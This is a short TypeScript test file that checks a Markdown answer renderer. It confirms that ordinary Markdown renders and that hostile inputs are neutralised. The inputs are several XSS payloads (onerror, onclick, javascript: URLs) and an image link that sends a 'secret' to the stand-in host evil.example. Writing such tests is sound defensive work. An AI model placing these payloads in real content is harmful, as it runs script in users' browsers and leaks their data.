import { expect, it } from 'vitest'
import { renderAnswer } from './markdown.ts'

const shown = (text: string) => renderAnswer(text).__html

it('shows Markdown', () => {
  expect(shown('**a** [b](/#/search?q=b)\n\n```\nx\ny\n```')).toBe(
    '<p><strong>a</strong> <a href="/#/search?q=b">b</a></p>\n<pre><code>x\ny\n</code></pre>\n',
  )
})

it.each([
  '<img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[go](javascript:alert(1))',
  '![leak](https://evil.example/?q=secret)',
  '<b onclick="alert(1)">b</b>',
])('of %s nothing runs, and nothing is fetched', (text) => {
  expect(shown(text)).not.toMatch(/javascript:|<img|<iframe|on\w+=/i)
})
